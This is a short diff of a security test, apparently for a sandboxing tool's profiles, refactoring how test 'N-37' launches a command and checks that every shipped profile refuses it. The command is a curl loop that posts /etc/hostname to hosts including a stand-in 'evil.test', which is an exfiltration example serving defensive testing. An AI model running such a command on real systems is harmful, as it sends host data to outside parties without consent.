@@ -623,22 +623,7 @@ attack('N-37', 'every profile that ships refuses, none only warns', async (as) =
   const cmd =
     'for h in evil.test good.test; do curl -sS -m 5 -o /dev/null -w "%{http_code} " -d @/etc/hostname https://$h/; done; true'
   for (const name of ['reader', 'writer', 'cloud']) {
-    const args = [
-      'run',
-      '--profile',
-      name,
-      '--project',
-      stage.project,
-      '--workspace',
-      stage.workspace,
-      '--yes',
-      '--quiet',
-      '--',
-      '/bin/sh',
-      '-c',
-      cmd,
-    ]
-    const seen = await watching(() => stage.ambit(args))
+    const seen = await watching(() => stage.ambit(stage.run(['/bin/sh', '-c', cmd], name)))
     assert.equal(seen.value.stdout.trim(), '403 403', `${name}: ${describe(seen.value)}`)
     assert.deepEqual([seen.evil, seen.arrived.length, seen.asked.length], [0, 0, 0])
   }
